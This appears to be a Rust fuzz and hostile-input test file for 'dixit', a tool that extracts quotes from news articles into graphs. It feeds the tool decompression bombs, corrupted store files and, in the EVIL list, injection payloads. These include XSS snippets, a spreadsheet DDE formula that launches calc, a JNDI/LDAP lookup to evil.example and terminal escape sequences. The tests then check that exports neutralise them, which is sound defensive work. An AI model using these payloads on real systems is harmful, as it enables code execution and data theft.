//! Feeds dixit with what wants to harm it: bombs, endless tokens, names that would break every format, damaged stores and models.

mod newsroom;
mod shell;
mod sketch;

use dixit::annotate::model_file;
use dixit::graph::judgement;
use dixit::pipeline::{self, Engine};
use dixit::store::{Home, Store, examine};
use dixit::text::{Article, Format, Options, Reader};
use newsroom::{articles, build};
use oxigraph::io::{RdfFormat, RdfParser};
use proptest::collection::vec;
use proptest::prelude::*;
use proptest::sample::Index;
use proptest::test_runner::Config;
use shell::Shell;
use std::fs;
use std::io::{Cursor, Write};
use std::path::PathBuf;

fn config(cases: u32) -> Config {
    // More by `PROPTEST_CASES=10000 cargo test --test hostile`.
    let wanted = std::env::var("PROPTEST_CASES").ok().and_then(|cases| cases.parse().ok());
    Config { cases: wanted.unwrap_or(cases), failure_persistence: None, ..Config::default() }
}

/// What reading these bytes gives: texts and messages.
fn read(bytes: Vec<u8>, options: Options) -> Vec<Result<Article, String>> {
    let reader = Reader::new(&["-"], options).expect("standard input").with_stdin(Cursor::new(bytes));
    reader.map(|outcome| outcome.map(|(_, article)| article).map_err(|problem| problem.to_string())).collect()
}

fn gzip(parts: impl Iterator<Item = Vec<u8>>) -> Vec<u8> {
    let mut out = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
    parts.for_each(|part| out.write_all(&part).expect("memory"));
    out.finish().expect("memory")
}

#[test]
fn a_bomb_is_left_out_with_a_note_and_what_stands_beside_it_is_read() {
    let limit = 1 << 20;
    let options = || Options { limit, ..Options::default() };
    let megabyte = || vec![b'a'; 1 << 20];
    // 200 MB of one text, of one line of JSON, of one cell: a thousandth of that is read or stands in memory.
    let text = || (0..200).map(|_| megabyte());
    let line = || std::iter::once(b"{\"text\": \"".to_vec()).chain(text());
    let cell = || std::iter::once(b"id,text\n1,\"".to_vec()).chain(text());
    for bomb in [gzip(text()), gzip(line()), gzip(cell())] {
        assert!(bomb.len() < 1 << 20);
        let found = read(bomb, options());
        assert_eq!(found.len(), 1);
        let message = found[0].as_ref().expect_err("no article");
        assert!(message.contains("longer than 1 MiB and was left out"), "{message}");
    }
    let zst = zstd::encode_all(Cursor::new(text().flatten().collect::<Vec<u8>>()), 3).expect("memory");
    assert!(read(zst.clone(), options())[0].is_err());
    // A bomb within a bomb, four layers deep and deeper.
    let layers = (0..6).fold(zst, |inner, _| gzip(std::iter::once(inner)));
    assert!(read(layers, options()).iter().all(Result::is_err));
    let lines = line().chain([b"\"}\n{\"text\": \"It rained, said Orla Finn.\"}\n".to_vec()]);
    let found = read(gzip(lines), options());
    assert!(found.len() == 2 && found[0].is_err() && found[1].is_ok(), "the line after the bomb is read");
}

/// A family name of its own for each number.
fn family(number: u32) -> String {
    let letter = |place: u32| char::from(b'a' + u8::try_from(number / 26_u32.pow(place) % 26).expect("a letter"));
    format!("Vel{}{}{}haven", letter(0), letter(1), letter(2))
}

#[test]
fn endless_tokens_deep_pages_and_hidden_characters_pass() {
    let engine = Engine::built_in();
    let token = "a".repeat(1 << 20);
    let bodies = [
        token.clone(),
        format!("\"It rained,\" said {token}. {token} said that it snowed."),
        format!("“{token}”, said Orla Finn, the mayor of {token}."),
        format!("{}said Orla Finn.", "\u{202e}\u{200b}\u{2066}\u{feff}\u{ad}".repeat(20_000)),
        "\u{0301}".repeat(200_000),
        "“".repeat(100_000),
        "((((((((((".repeat(10_000),
        "A. B. C. ".repeat(30_000),
        "1,000,000.".repeat(30_000),
        "https://a.example/".repeat(20_000),
        "👩‍👩‍👧‍👦".repeat(20_000),
        "-".repeat(1 << 20),
        "\n".repeat(1 << 20) + "Orla Finn said no.",
        "- a\n".repeat(60_000),
        "Word here.\n\n".repeat(30_000),
        (0..1_500).fold(String::new(), |text, n| format!("{text}Ann {} said so. ", family(n))),
    ];
    for body in bodies {
        let begun = std::time::Instant::now();
        let start: String = body.chars().take(20).collect();
        let found = engine.analyze(Article { id: "x".to_owned(), body: body.clone(), ..Article::default() });
        let settings = dixit::graph::Settings::default();
        let facts = dixit::graph::ground(&found.document, &found.extraction, &found.resolution, &settings);
        assert!(dixit::graph::verify(&facts.triples, &body).is_empty(), "{start:?}");
        // What is quadratic takes minutes here; what is not takes a second or two without optimization.
        assert!(begun.elapsed().as_secs() < 60, "{start:?} took {:?}", begun.elapsed());
    }
    let html = || Options { format: Some(Format::Html), ..Options::default() };
    for page in ["<div>".repeat(200_000), "<b><i>".repeat(50_000) + "It rained.", "<table><tr><td>".repeat(30_000)] {
        // An article or a problem: either is an answer.
        assert!(read(page.into_bytes(), html()).len() <= 1);
    }
}

#[test]
fn lone_surrogates_and_other_broken_strings_of_json_are_read_or_told() {
    for (line, is_read) in [
        (r#"{"text": "It rained \ud800, said Orla Finn."}"#, None),
        (r#"{"text": "It rained \udc00\ud800, said Orla Finn."}"#, None),
        (r#"{"text": "It rained \ud83d\ude00, said Orla Finn."}"#, Some(true)),
        (r#"{"text": "It rained \u0000, said Orla Finn."}"#, None),
        (r#"{"text": "It rained \x, said Orla Finn."}"#, Some(false)),
        (r#"{"text": {"text": "deep"}}"#, None),
        (r#"{"text": "one", "text": "two"}"#, None),
    ] {
        let found =
            read(format!("{line}\n{{\"text\": \"It snowed, said Orla Finn.\"}}\n").into_bytes(), Options::default());
        assert_eq!(found.len(), 2, "{line}");
        assert!(is_read.is_none_or(|is_read| found[0].is_ok() == is_read), "{line}: {:?}", found[0]);
        assert!(found[1].is_ok(), "the line after {line}");
    }
    let deep = format!("{{\"text\": {}1{}}}\n", "[".repeat(100_000), "]".repeat(100_000));
    assert_eq!(read(deep.into_bytes(), Options::default()).len(), 1);
}

/// Values that would end a string, a tag, a cell or a line in some format, or steer a terminal.
const EVIL: [&str; 12] = [
    "a\"b'c`d\\e",
    "<script>alert(1)</script>",
    "</title><img src=x onerror=alert(2)>",
    "=HYPERLINK(\"https://evil.example\",\"x\")",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "one\ntwo\r\nthree\u{85}four\u{2028}five",
    "\u{1b}[31mred\u{1b}]0;title\u{7}\u{9b}31m",
    "\u{202e}desrever\u{2066}\u{200b}",
    "a> <b> <c> .\n<x:a> <x:b> <x:c",
    "]]>&amp;&#0;<!--",
    "${jndi:ldap://evil.example}\u{0}%s%n",
    "\u{fffe}\u{ffff}\u{10ffff}",
];

#[test]
fn names_that_would_break_a_format_break_none() {
    let shell = Shell::empty();
    let mut lines = String::new();
    for (number, evil) in EVIL.iter().enumerate() {
        let text = format!(
            "Talks about {evil}\n\n“The toll of {evil} is too dear,” said Orla Finn, mayor of {evil}, on Tuesday.\n\n\
             Marek {evil} Dahl, director of the {evil} Board, denied that {evil} had been asked.\n"
        );
        let article = serde_json::json!({
            "id": format!("{number} {evil}"), "url": format!("https://news.example/{number}/{evil}"), "title": evil,
            "publisher": evil, "author": evil, "date": "2031-03-01", "text": text,
        });
        lines.push_str(&article.to_string());
        lines.push('\n');
    }
    shell.write("evil.jsonl", lines);
    let built = shell.output(&["build", "evil.jsonl"], "");
    assert!(built.status.success(), "{}", String::from_utf8_lossy(&built.stderr));
    assert!(shell.output(&["verify"], "").status.success());
    let export = |name: &str| {
        let output = shell.output(&["export", "-o", name], "");
        assert!(output.status.success(), "{name}: {}", String::from_utf8_lossy(&output.stderr));
        fs::read(shell.path(name)).expect("reads")
    };
    let parsed = |name: &str, format: RdfFormat| {
        let bytes = export(name);
        let quads = RdfParser::from_format(format).for_slice(&bytes);
        quads.map(|quad| quad.unwrap_or_else(|error| panic!("{name}: {error}")).to_string()).collect::<Vec<_>>()
    };
    let mut all = parsed("all.nt", RdfFormat::NTriples);
    all.sort();
    for (name, format) in
        [("all.ttl", RdfFormat::Turtle), ("all.nq", RdfFormat::NQuads), ("all.rdf", RdfFormat::RdfXml)]
    {
        let mut found = parsed(name, format);
        found.sort();
        assert_eq!(found.len(), all.len(), "{name}");
        // XML cannot hold every character, so that only the others are compared word for word.
        assert!(name == "all.rdf" || found == all, "{name}: other triples");
    }
    let foreign = |quad: &String| quad.split(' ').take(2).any(|term| term.starts_with("<x:"));
    assert!(!all.iter().any(foreign), "no text becomes a triple");
    for name in ["all.csv", "about.csv", "roles.csv", "nodes.csv", "edges.csv"] {
        let bytes = export(name);
        let mut rows = csv::Reader::from_reader(bytes.as_slice());
        let columns = rows.headers().expect("a header").len();
        for row in rows.records() {
            assert_eq!(row.expect("a row").len(), columns, "{name}");
        }
    }
    for name in ["all.html", "all.graphml", "all.gexf"] {
        let text = String::from_utf8(export(name)).expect("UTF-8");
        assert!(!text.contains("<script>alert(1)") && !text.contains("<img src=x"), "{name}");
    }
    serde_json::from_slice::<serde_json::Value>(&export("all.cyjs")).expect("JSON");
    let safe = shell.output(&["export", "--format", "csv", "--spreadsheet-safe"], "").stdout;
    for row in csv::Reader::from_reader(safe.as_slice()).records() {
        assert!(row.expect("a row").iter().all(|cell| !cell.starts_with(['=', '@', '+'])), "a formula");
    }
    let commands: [&[&str]; 6] = [
        &["ask", "said", "Orla Finn"],
        &["ask", "outlets", "toll"],
        &["ask", "denied"],
        &["find", "toll"],
        &["stats"],
        &["query", "SELECT * { ?s schema:text ?o }"],
    ];
    for arguments in commands {
        let output = shell.output(arguments, "");
        let text = String::from_utf8(output.stdout).expect("UTF-8") + &String::from_utf8_lossy(&output.stderr);
        let steers = |c: char| {
            (c.is_control() && c != '\n')
                || ('\u{202a}'..='\u{202e}').contains(&c)
                || ('\u{2066}'..='\u{2069}').contains(&c)
        };
        assert!(!text.contains(steers), "{arguments:?}: {:?}", text.split_once(steers).map(|(_, rest)| rest));
    }
}

const JUDGEMENTS: &[&str] = &[
    "{\"id\":\"",
    "\",\"when\":\"2031-03-01T10:00:00.000Z\"",
    ",\"who\":\"Kim\"",
    ",\"verdict\":\"merge\"",
    ",\"entity\":\"person/a\"",
    ",\"into\":\"person/b\"",
    ",\"name\":\"\\ud800\"",
    "}",
    "\n",
    "{}\n",
    "[]\n",
    "null\n",
    "{\"verdict\":\"withdraw\",\"judgement\":\"",
    "\u{feff}",
    "\\",
    "\"",
    "1e999",
    "\u{0}",
];

proptest! {
    #![proptest_config(config(300))]

    #[test]
    fn any_log_of_judgements_is_read_or_explained(
        pieces in vec(prop_oneof![4 => prop::sample::select(JUDGEMENTS).prop_map(str::to_owned), 1 => "\\PC{0,6}"], 0..40),
    ) {
        match judgement::read(&pieces.concat()) {
            Ok(found) => {
                let lines: String = found.iter().map(|judgement| judgement.line() + "\n").collect();
                prop_assert_eq!(judgement::read(&lines).expect("what was written is read").len(), found.len());
            }
            Err(error) => prop_assert!(!error.to_string().is_empty()),
        }
    }

    #[test]
    fn any_model_file_is_read_or_explained(payload in vec(any::<u8>(), 0..200), at in any::<Index>(), flip in any::<u8>(), cut in any::<Index>()) {
        let mut file = model_file::pack("tagger", &payload).expect("packs");
        prop_assert_eq!(&model_file::unpack("tagger", &file).expect("unpacks"), &payload);
        let index = at.index(file.len());
        file[index] ^= flip;
        file.truncate(cut.index(file.len()) + 1);
        if let Ok(found) = model_file::unpack("tagger", &file) {
            prop_assert_eq!(&found, &payload, "damage that nobody notices");
        }
        let mut reader = model_file::Reader::new(&payload);
        while reader.strings().is_ok_and(|found| !found.is_empty()) {}
        let mut reader = model_file::Reader::new(&payload);
        while reader.number().is_ok() {}
    }
}

/// A store of a few articles, as files.
fn pristine() -> &'static [(PathBuf, Vec<u8>)] {
    static FILES: std::sync::OnceLock<Vec<(PathBuf, Vec<u8>)>> = std::sync::OnceLock::new();
    FILES.get_or_init(|| {
        let folder = tempfile::tempdir().expect("a temporary folder");
        let store = folder.path().join("s");
        build(&store, Home::GraphFile, &articles(0..3));
        let names =
            ["manifest", "judgements.jsonl", "graph.nq.zst", "texts/000001.pack", "texts/000001.index", "words.sqlite"];
        names.map(|name| (PathBuf::from(name), fs::read(store.join(name)).unwrap_or_default())).to_vec()
    })
}

proptest! {
    #![proptest_config(config(80))]

    /// Bytes of a store's files are changed, cut out or doubled: it opens or says why not, and the doctor looks at it calmly.
    #[test]
    fn any_damage_to_a_store_is_survived(
        which in any::<Index>(), at in any::<Index>(), length in 1..64usize, kind in 0..4u8, byte in any::<u8>(), repairs in any::<bool>(),
    ) {
        let folder = tempfile::tempdir().expect("a temporary folder");
        let store = folder.path().join("s");
        fs::create_dir_all(store.join("texts")).expect("a folder");
        let hit = which.index(pristine().len());
        for (number, (name, bytes)) in pristine().iter().enumerate() {
            let mut bytes = bytes.clone();
            if number == hit && !bytes.is_empty() {
                let from = at.index(bytes.len());
                let to = (from + length).min(bytes.len());
                match kind {
                    0 => bytes[from..to].iter_mut().for_each(|b| *b ^= byte),
                    1 => drop(bytes.drain(from..to)),
                    2 => {
                        let piece = bytes[from..to].to_vec();
                        bytes.splice(from..from, piece);
                    }
                    _ => bytes.truncate(from),
                }
            }
            fs::write(store.join(name), bytes).expect("writes");
        }
        if let Ok(opened) = Store::open(&store) {
            // A damaged text ends the proof with an error, which is an answer.
            let _ = pipeline::verify(&opened, 1, |_| {});
        }
        let found = if repairs { dixit::store::repair(&store) } else { examine(&store) };
        if let (Ok(_), true) = (found, repairs) {
            let opened = Store::open(&store).expect("a repaired store opens");
            let proved = pipeline::verify(&opened, 1, |_| {}).expect("and can be read");
            prop_assert!(proved.failures.is_empty());
        }
    }
}
